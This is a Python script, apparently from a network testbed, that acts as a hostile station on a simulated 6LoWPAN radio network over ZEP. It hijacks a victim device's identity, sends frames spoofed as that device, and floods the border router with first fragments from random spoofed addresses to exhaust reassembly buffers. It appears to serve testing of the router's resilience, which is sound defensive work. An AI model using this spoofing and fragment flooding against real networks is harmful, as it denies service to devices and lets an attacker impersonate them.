"""A hostile guest station on a radio PAN's carrier network, run inside a container of its own
(``python3 -c <this file> HUB ROUTER_SHORT VICTIM_SHORT SECONDS``, in the node image).

It plays what anyone on the carrier network can do with ZEP: it registers with its own EUI-64,
claims a planned thing's EUI-64 by HELLO (a hijack attempt), sends frames as that thing, and
floods the border router with RFC 4944 first fragments announcing 2,047-byte datagrams, once
in a while from its own address and hundreds of times a second from invented source addresses.
At the end it prints one JSON line with what it sent.
"""

import json
import random
import socket
import struct
import sys
import time

from testbed.node.radio import mac, zep
from testbed.node.radio.frag import FRAG1_DISPATCH

hub_host, router_hex, victim_hex, seconds = sys.argv[1:5]
HUB = (hub_host, zep.ZEP_PORT)
CHANNEL, PAN_ID = int(sys.argv[5]), int(sys.argv[6], 0)
ROUTER = bytes.fromhex(router_hex)
VICTIM_SHORT = bytes.fromhex(victim_hex)
VICTIM_EXT = bytes.fromhex("020000fffe00") + VICTIM_SHORT
OWN_EXT = bytes.fromhex("0a0b0c0d0e0f0001")
rng = random.Random(11)
sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
sock.bind(("::", zep.ZEP_PORT))
sent = {"hello-own": 0, "hello-hijack": 0, "as-victim": 0, "own-frag1": 0, "spoofed-frag1": 0}
seq = 0


def send_frame(src: bytes, payload: bytes) -> None:
    global seq
    frame = mac.encode_data(seq=seq & 0xFF, pan_id=PAN_ID, src=src, dst=ROUTER, payload=payload)
    sock.sendto(zep.encode_data(frame, channel=CHANNEL, seq=seq), HUB)
    seq += 1


def first_fragment(tag: int) -> bytes:
    header = bytes([0x60]) + bytes(39)  # an uncompressed IPv6 header, then payload
    return struct.pack("!HH", FRAG1_DISPATCH << 11 | 2047, tag) + b"\x41" + header + bytes(48)


end = time.monotonic() + float(seconds)
next_own = 0.0
while time.monotonic() < end:
    now = time.monotonic()
    if now >= next_own:
        sock.sendto(zep.encode_hello(OWN_EXT), HUB)
        sent["hello-own"] += 1
        send_frame(OWN_EXT, first_fragment(rng.randrange(1 << 16)))
        sent["own-frag1"] += 1
        sock.sendto(zep.encode_hello(VICTIM_EXT), HUB)  # "I am the victim now"
        sent["hello-hijack"] += 1
        send_frame(VICTIM_SHORT, first_fragment(rng.randrange(1 << 16)))
        sent["as-victim"] += 1
        next_own = now + 0.5
    for _ in range(10):
        src = rng.randbytes(2) if rng.random() < 0.5 else rng.randbytes(8)
        send_frame(src, first_fragment(rng.randrange(1 << 16)))
        sent["spoofed-frag1"] += 1
    time.sleep(0.02)
print(json.dumps(sent), flush=True)
